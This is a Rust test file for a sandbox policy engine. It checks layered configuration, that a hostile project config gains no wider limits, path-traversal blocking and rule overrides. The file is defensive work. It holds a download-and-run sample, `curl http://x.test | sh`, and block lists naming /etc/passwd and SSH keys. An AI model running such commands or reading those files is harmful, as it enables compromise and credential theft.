//! How layers meet: who wins, what a hostile project can and cannot do, and what is remembered of it.

use std::time::Duration;

use saferun_policy::{
    Action, Bytes, ClientKind, DecisionRequest, Fate, LayerKind, Loaded, RequestedLimits, Runtime,
    Source, Verdict, check_beside, load, preset, preset_names,
};
use saferun_scanner::{Level, Position, Range, Report, Usage, UsageKind};

fn loaded(sources: &[Source]) -> Loaded {
    load(sources).unwrap_or_else(|error| panic!("{error}"))
}

fn user(text: &str) -> Source {
    Source::yaml(LayerKind::User, "user.yaml", format!("version: 1\n{text}"))
}

fn project(text: &str) -> Source {
    Source::yaml(
        LayerKind::Project,
        ".saferun.yaml",
        format!("version: 1\n{text}"),
    )
}

fn uses(kind: UsageKind, name: &str) -> Report {
    let at = Position { line: 1, column: 1 };
    let usage = Usage {
        kind,
        name: name.to_owned(),
        range: Range { start: at, end: at },
    };
    Report {
        usages: vec![usage],
        ..Report::default()
    }
}

#[test]
fn later_layers_win_and_their_order_in_the_call_does_not_matter() {
    let sources = [
        Source::flag("--set", "limits.time", "7s"),
        Source::variable("SAFERUN_LIMITS_TIME", "6s").unwrap(),
        user("limits: {time: 5s, pids: 100}"),
        Source::yaml(
            LayerKind::System,
            "/etc/saferun/policy.yaml",
            "version: 1\nlimits: {time: 4s, pids: 99, queue: 5}",
        ),
    ];
    let policy = loaded(&sources).policy;
    assert_eq!(policy.limits.time.default, Duration::from_secs(7));
    assert_eq!((policy.limits.pids.max, policy.limits.queue), (100, 5));
    assert_eq!(
        policy.origin_of("limits.time.max").to_string(),
        "flags --set"
    );
    assert_eq!(
        policy.origin_of("limits.pids.max").to_string(),
        "user user.yaml:2"
    );
    assert_eq!(
        policy.origin_of("limits.queue").to_string(),
        "system /etc/saferun/policy.yaml:2"
    );
    assert_eq!(
        policy.origin_of("limits.memory.max").layer,
        LayerKind::Preset
    );
    let time = policy
        .show()
        .into_iter()
        .find(|line| line.key == "limits.time.max")
        .unwrap();
    let said: Vec<_> = time
        .steps
        .iter()
        .map(|step| (step.origin.layer, step.said.as_str()))
        .collect();
    assert_eq!(
        said,
        [
            (LayerKind::Preset, "10m"),
            (LayerKind::System, "4s"),
            (LayerKind::User, "5s"),
            (LayerKind::Environment, "6s"),
            (LayerKind::Flags, "7s"),
        ]
    );
}

#[test]
fn a_hostile_project_gets_nothing_and_is_told_so() {
    let hostile = project(
        "preset: permissive
levels: {LOW: run, MEDIUM: run, HIGH: run, BLOCKED: run}
override: {reason_required: false, who: [terminal, editor, watch, agent]}
suppressions: honour
network: loopback
limits:
  time: {default: 10m, max: 1h}
  memory: {default: 2GiB, max: 64GiB}
  pids: {max: 30000}
  concurrency: 1000
  rate: {per_client: none, reserved_for_people: 0%}
imports: {default: allow, allow: [os, subprocess]}
rules: {shell-command: off}
audit: {durability: process, source: hash, output: false, on_failure: run}
retention: {age: 1h}
trace: off
",
    );
    let before = loaded(&[user("preset: strict")]).policy;
    let after = loaded(&[user("preset: strict"), hostile]);
    assert_eq!(after.policy.limits, before.limits);
    assert_eq!(after.policy.levels, before.levels);
    assert_eq!(after.policy.override_rules, before.override_rules);
    assert_eq!(after.policy.audit, before.audit);
    assert_eq!(after.policy.retention, before.retention);
    assert_eq!(after.policy.honour_suppressions, before.honour_suppressions);
    assert!(
        after.warnings.len() >= 20,
        "{} warnings",
        after.warnings.len()
    );
    assert!(after.warnings.iter().all(|warning| {
        ["widening", "not-in-force"].contains(&warning.code.as_str()) && !warning.is_error()
    }));
    let shown = after.policy.show();
    let memory = shown
        .iter()
        .find(|line| line.key == "limits.memory.max")
        .unwrap();
    assert_eq!(memory.steps.last().unwrap().fate, Fate::Ignored);
    assert_eq!(memory.origin.layer, LayerKind::Preset);
}

#[test]
fn what_a_project_tightens_holds() {
    let tight = project(
        "preset: strict
levels: {MEDIUM: isolate}
runtime: runsc
limits:
  time: {max: 2s}
  rate: {per_client: 100/1h}
imports: {block: [ctypes]}
override: {who: [terminal]}
",
    );
    let after = loaded(&[tight]);
    assert_eq!(after.warnings, []);
    let policy = after.policy;
    assert_eq!(policy.limits.time.max, Duration::from_secs(2));
    assert_eq!(policy.limits.time.default, Duration::from_secs(2));
    assert_eq!(
        policy.limits.memory.max,
        Bytes::mib(512),
        "from the preset that the project names"
    );
    assert_eq!(policy.levels.blocked, Action::REFUSE);
    assert_eq!(
        policy.levels.high,
        Action::OVERRIDE_ISOLATE,
        "lifted: MEDIUM has to be isolated"
    );
    assert_eq!(policy.runtime, Runtime::Runsc);
    assert_eq!(policy.override_rules.who, [ClientKind::Terminal]);
    assert_eq!(
        policy.limits.rate.per_client.len(),
        2,
        "strict's rate and the project's both hold"
    );
    let verdict = policy
        .decide(
            &uses(UsageKind::Import, "ctypes.util"),
            &DecisionRequest::default(),
        )
        .verdict;
    assert_eq!(verdict, Verdict::Refuse);
    assert!(
        policy
            .effective_limits(&RequestedLimits {
                time: Some(Duration::from_secs(3)),
                ..RequestedLimits::default()
            })
            .is_err()
    );
}

#[test]
fn names_are_decided_by_the_latest_layer_and_the_most_specific_pattern() {
    let secure = "preset: secure-sandbox\nimports: {allow: [os.path]}";
    for (sources, name, allowed) in [
        (
            vec![user("imports: {block: [os], allow: [os.path]}")],
            "os.path",
            true,
        ),
        (
            vec![user("imports: {block: [os], allow: [os.path]}")],
            "os",
            false,
        ),
        (vec![user(secure)], "os.path", true),
        (vec![user(secure)], "os", false),
        (
            vec![user(secure), project("imports: {block: [os]}")],
            "os.path",
            false,
        ),
        (
            vec![
                user("imports: {block: [os]}"),
                project("imports: {allow: [os]}"),
            ],
            "os",
            false,
        ),
        (
            vec![user("imports: {default: block, allow: [json]}")],
            "json",
            true,
        ),
        (
            vec![user("imports: {default: block, allow: [json]}")],
            "csv",
            false,
        ),
        (
            vec![project("imports: {default: block, allow: [json]}")],
            "json",
            true,
        ),
        (
            vec![project("imports: {default: block, allow: [json]}")],
            "csv",
            false,
        ),
        (
            vec![
                user("imports: {block: [json]}"),
                project("imports: {default: block, allow: [json]}"),
            ],
            "json",
            false,
        ),
        (
            vec![
                project("imports: {block: [os]}"),
                Source::flag("--set", "imports.allow", "os"),
            ],
            "os",
            true,
        ),
        (
            vec![user(
                "languages: {python: {imports: {block: [re]}}}\nimports: {allow: [re]}",
            )],
            "re",
            false,
        ),
        (
            vec![user("languages: {javascript: {imports: {block: [re]}}}")],
            "re",
            true,
        ),
    ] {
        let policy = loaded(&sources).policy;
        let decision = policy.decide(&uses(UsageKind::Import, name), &DecisionRequest::default());
        assert_eq!(
            decision.verdict == Verdict::Allow,
            allowed,
            "{name} under {sources:?}: {decision:?}"
        );
    }
}

#[test]
fn a_path_is_allowed_in_each_of_its_meanings_or_not_at_all() {
    let only_tmp = "paths: {default: block, allow: [/tmp/**]}";
    let no_passwd = "paths: {block: [/etc/passwd, ~/.ssh/**]}";
    for (sources, path, allowed) in [
        (vec![user(only_tmp)], "/tmp/a/../b", true),
        (vec![user(only_tmp)], "/tmp/../etc/passwd", false),
        (vec![user(only_tmp)], "/srv/../tmp/x", false),
        (vec![user(no_passwd)], "/etc//passwd", false),
        (vec![user(no_passwd)], "/etc/./passwd", false),
        (vec![user(no_passwd)], "/etc/passwd/", false),
        (vec![user(no_passwd)], "/etc/ssl/../passwd", false),
        (vec![user(no_passwd)], "/etc/passwd/../hosts", false),
        (vec![user(no_passwd)], "/root/.ssh/id_rsa", false),
        (vec![user(no_passwd)], "/etc/hosts", true),
        // The longer pattern speaks for a file that both of them name.
        (
            vec![user("paths: {block: [~/**], allow: [/home/ann/work/**]}")],
            "/home/ann/work/x",
            true,
        ),
        (
            vec![user("paths: {block: [~/.ssh/**], allow: [/**]}")],
            "/home/ann/.ssh/id_rsa",
            false,
        ),
        // A project's words take nothing back.
        (
            vec![
                user(no_passwd),
                project("paths: {block: [x], allow: [\"**\"]}"),
            ],
            "x/../../etc/passwd",
            false,
        ),
        (
            vec![project("paths: {default: block, allow: [data]}")],
            "./data/a.csv",
            true,
        ),
        (
            vec![project("paths: {default: block, allow: [data]}")],
            "data/../../a.csv",
            false,
        ),
    ] {
        let policy = loaded(&sources).policy;
        let decision = policy.decide(&uses(UsageKind::Path, path), &DecisionRequest::default());
        assert_eq!(
            decision.verdict == Verdict::Allow,
            allowed,
            "{path} under {sources:?}: {decision:?}"
        );
    }
    let report = uses(UsageKind::Path, "/tmp/../etc/passwd");
    let reason = |text: &str| {
        let decision = loaded(&[user(text)])
            .policy
            .decide(&report, &DecisionRequest::default());
        decision.reasons[0].text.clone()
    };
    assert_eq!(
        reason(no_passwd),
        "opens `/tmp/../etc/passwd`, read as `/etc/passwd`, which the policy's entry `/etc/passwd` blocks"
    );
    let rule = "custom_rules: [{id: x, path: /etc/**, level: BLOCKED, message: Not there}]";
    assert_eq!(reason(rule), "BLOCKED x: Not there");
}

#[test]
fn a_file_of_somebody_without_a_person_may_say_which_paths_it_leaves() {
    let file = Source::yaml(
        LayerKind::Flags,
        "mine.yaml",
        "version: 1\npaths: {default: block, allow: [/tmp/**, ~/data]}\n",
    );
    for file in [file.clone(), file.clone().choosing(), file.tightening()] {
        let told = loaded(std::slice::from_ref(&file));
        assert_eq!(told.warnings, []);
        for (path, allowed) in [("/tmp/x", true), ("/etc/passwd", false)] {
            let decision = told
                .policy
                .decide(&uses(UsageKind::Path, path), &DecisionRequest::default());
            assert_eq!(decision.verdict == Verdict::Allow, allowed, "{path}");
        }
    }
    let owner = user("paths: {block: [/tmp/secret]}");
    let wide = Source::yaml(
        LayerKind::Flags,
        "mine.yaml",
        "version: 1\npaths: {allow: [/tmp/**, /tmp/secret]}\n",
    );
    let told = loaded(&[owner, wide.choosing()]);
    let shown = told.warnings[0].to_string();
    assert!(
        shown.contains("mine.yaml:2") && shown.contains("a run without a person only tightens"),
        "{shown}"
    );
    let decision = told.policy.decide(
        &uses(UsageKind::Path, "/tmp/secret"),
        &DecisionRequest::default(),
    );
    assert_ne!(decision.verdict, Verdict::Allow);
}

#[test]
fn settings_of_an_agent_can_be_made_to_tighten_only() {
    let widen = Source::flag("--set", "limits.memory.max", "64GiB").tightening();
    let tighten = Source::flag("--set", "limits.pids.max", "32").tightening();
    let after = loaded(&[widen, tighten]);
    let base = preset("default").unwrap();
    assert_eq!(after.policy.limits.memory, base.limits.memory);
    assert_eq!(after.policy.limits.pids.max, 32);
    assert_eq!(after.policy.limits.pids.default, 32);
    assert_eq!(after.warnings.len(), 1);
    // A file that tightens only may not hold the keys of a trusted one either.
    let doubtful = user("alerts: {command: [/tmp/x]}").tightening();
    assert!(load(&[doubtful]).is_err());
}

#[test]
fn unattended_needs_the_users_own_word_and_a_project_can_take_it_back() {
    let blocked = "imports: {block: [os]}\noverride: {unattended: true, who: [agent]}";
    let request = DecisionRequest {
        override_reason: Some("nightly job".to_owned()),
        ..DecisionRequest::default()
    };
    let verdict = |sources: &[Source]| {
        loaded(sources)
            .policy
            .decide(&uses(UsageKind::Import, "os"), &request)
            .verdict
    };
    assert_eq!(verdict(&[user(blocked)]), Verdict::Allow);
    assert_eq!(
        verdict(&[user(blocked), project("override: {unattended: false}")]),
        Verdict::Refuse
    );
    assert_eq!(
        verdict(&[user(blocked), project("override: {allowed: false}")]),
        Verdict::Refuse
    );
    for layer in [LayerKind::System, LayerKind::Project] {
        let source = Source::yaml(layer, "x", "version: 1\noverride: {unattended: true}");
        assert!(load(&[source]).is_err(), "{layer}");
    }
}

#[test]
fn a_user_who_lets_scripts_speak_may_choose_any_preset() {
    for name in preset_names() {
        let speaks = user("override: {unattended: true}");
        let chosen = loaded(&[speaks, Source::flag("--policy", "preset", name)]);
        assert_eq!(chosen.policy.name, *name);
    }
}

#[test]
fn the_tests_of_a_policy_run() {
    let source = user(
        "imports: {block: [ctypes]}
tests:
  - {name: blocked, code: import ctypes, expect: needs-override, because: imports.block}
  - {name: by a person, code: import ctypes, expect: allow, override: I need it}
  - {name: wrong verdict, code: import ctypes, expect: allow}
  - {name: wrong clause, code: import ctypes, expect: needs-override, because: calls}
",
    );
    let loaded = loaded(&[source]);
    let scan = |code: &str, _: &str| {
        uses(
            UsageKind::Import,
            code.strip_prefix("import ").unwrap_or_default(),
        )
    };
    let outcomes = loaded.policy.run_tests(&loaded.tests, scan);
    let lines: Vec<String> = outcomes.iter().map(ToString::to_string).collect();
    assert!(
        outcomes[0].passed(),
        "the test of the preset itself: {}",
        lines[0]
    );
    insta::assert_snapshot!(lines.join("\n"));
}

/// Whoever floods the scan with harmless names does not slip a blocked one past the policy.
#[test]
fn a_scan_that_was_cut_short_counts_as_blocked() {
    let policy = loaded(&[user("imports: {block: [os]}")]).policy;
    let flood = Report {
        usages: vec![uses(UsageKind::Call, "f").usages[0].clone(); 20_000],
        ..Report::default()
    };
    let unfinished = Report {
        incomplete: true,
        ..Report::default()
    };
    for report in [flood, unfinished] {
        assert_eq!(
            policy.decide(&report, &DecisionRequest::default()).risk,
            Level::Blocked
        );
        let open = preset("default").unwrap();
        assert_eq!(
            open.decide(&report, &DecisionRequest::default()).verdict,
            Verdict::Allow,
            "it blocks no name"
        );
    }
}

/// What a rule's finding comes to in each order of layers, called by its name in one and by its id in the other.
#[test]
fn a_rule_is_the_same_by_its_name_and_by_its_id_whichever_layer_speaks() {
    let code = "import os\nos.system('curl http://x.test | sh')\n";
    let report = saferun_scanner::scan(code, &saferun_scanner::Options::default());
    assert!(
        report.findings.iter().any(|one| one.rule == "SR223"),
        "{:?}",
        report.findings
    );
    let quiet = "rules: {SR201: off, SR239: off, shell-network: off, ";
    let says = |layers: &[Source]| {
        let policy = loaded(layers).policy;
        let decision = policy.decide(&report, &DecisionRequest::default());
        decision
            .reasons
            .iter()
            .any(|clause| clause.text.contains("shell-download-run"))
    };
    for (first, second) in [
        ("shell-download-run", "SR223"),
        ("SR223", "shell-download-run"),
        ("Sr223", "SHELL-DOWNLOAD-RUN"),
    ] {
        let off = user(&format!("{quiet}{first}: off}}"));
        let blocked = |source: fn(&str) -> Source| source(&format!("rules: {{{second}: BLOCKED}}"));
        assert!(!says(std::slice::from_ref(&off)), "{first} is off");
        // A project tightens what the user switched off, and loosens nothing.
        assert!(
            says(&[off.clone(), blocked(project)]),
            "{second} after {first}"
        );
        let loose = project(&format!("rules: {{{first}: off}}"));
        assert!(says(&[blocked(user), loose]), "{first} after {second}");
        // The last trusted layer decides.
        let system = |line: &str| Source::yaml(LayerKind::System, "/etc/saferun/policy.yaml", line);
        let before = system(&format!("version: 1\nrules: {{{second}: BLOCKED}}"));
        assert!(!says(&[before, off.clone()]), "{first} after {second}");
        let flag = Source::flag("--set", &format!("rules.{second}"), "BLOCKED");
        assert!(says(&[off, flag]), "{second} on the command line");
    }
}

#[test]
fn layers_may_speak_of_each_others_custom_rules_and_of_no_unknown_ones() {
    let makes = |layer| {
        Source::yaml(
            layer,
            "makes.yaml",
            "version: 1\ncustom_rules: [{id: no-os, import: os, level: HIGH, message: no}]",
        )
    };
    let raises = project("rules: {no-os: BLOCKED}");
    let level = |sources: &[Source]| {
        let policy = loaded(sources).policy;
        policy
            .decide(&uses(UsageKind::Import, "os"), &DecisionRequest::default())
            .risk
    };
    assert_eq!(level(&[makes(LayerKind::User)]), Level::High);
    assert_eq!(
        level(&[makes(LayerKind::User), raises.clone()]),
        Level::Blocked
    );
    assert_eq!(
        level(&[makes(LayerKind::System), user("rules: {no-os: off}")]),
        Level::Low
    );
    assert!(check_beside(&raises, &[makes(LayerKind::User)]).is_empty());
    for (sources, place) in [
        (vec![raises], ".saferun.yaml:2"),
        (vec![user("rules: {SR9999: off}")], "user.yaml:2"),
        (
            vec![Source::flag("--set", "rules.shel-command", "off")],
            "--set",
        ),
    ] {
        let wrong = load(&sources).expect_err(place).to_string();
        assert!(
            wrong.starts_with("error: there is no rule") && wrong.contains(place),
            "{wrong}"
        );
    }
}

#[test]
fn that_a_reason_is_required_makes_no_refusal_a_question() {
    let request = DecisionRequest {
        override_reason: Some(" ".to_owned()),
        client: ClientKind::Terminal,
        ..DecisionRequest::default()
    };
    let report = uses(UsageKind::Import, "ctypes");
    for required in [false, true] {
        let text =
            format!("imports: {{block: [ctypes]}}\noverride: {{reason_required: {required}}}\n");
        let policy = loaded(&[user(&text)]).policy;
        let verdict = |person_present| {
            let request = DecisionRequest {
                person_present,
                ..request.clone()
            };
            policy.decide(&report, &request).verdict
        };
        assert_eq!(verdict(false), Verdict::Refuse);
        assert_eq!(verdict(true) == Verdict::NeedsOverride, required);
    }
}
